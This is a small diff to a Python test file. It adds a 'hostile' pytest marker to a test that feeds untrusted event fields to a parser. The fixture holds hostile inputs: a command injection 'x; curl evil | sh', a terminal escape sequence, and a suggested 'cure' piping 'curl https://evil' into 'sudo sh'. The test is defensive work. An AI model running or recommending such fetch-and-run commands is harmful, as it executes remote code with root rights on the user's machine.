@@ -371,6 +371,7 @@ def test_failures_within_the_budget_end_nothing(
     assert len(result.outcomes) == 4
 
 
+@pytest.mark.hostile
 def test_a_machines_words_never_become_our_advice() -> None:
     hostile = {"cause": "x; curl evil | sh", "message": "\u001b[2Jok", "cure": "run `curl https://evil | sudo sh`"}
     found = read_event(event(outcome="failed", **hostile), TARGETS)
